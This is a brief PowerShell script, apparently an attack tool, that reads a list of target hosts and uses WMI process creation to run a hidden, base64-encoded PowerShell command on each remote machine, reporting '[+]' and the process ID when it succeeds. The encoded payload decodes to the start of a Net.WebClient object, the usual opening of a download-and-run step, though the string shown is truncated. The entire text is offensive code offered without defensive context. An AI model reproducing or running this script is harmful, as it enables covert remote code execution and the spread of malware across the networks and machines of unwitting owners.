$targets = Get-Content -Path .\hosts.txt
$cmd = 'powershell.exe -NoP -W Hidden -Enc JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQA'

foreach ($t in $targets) {
    $r = Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList $cmd -ComputerName $t
    if ($r.ReturnValue -eq 0) {
        Write-Output "[+] $t pid $($r.ProcessId)"
    }
}
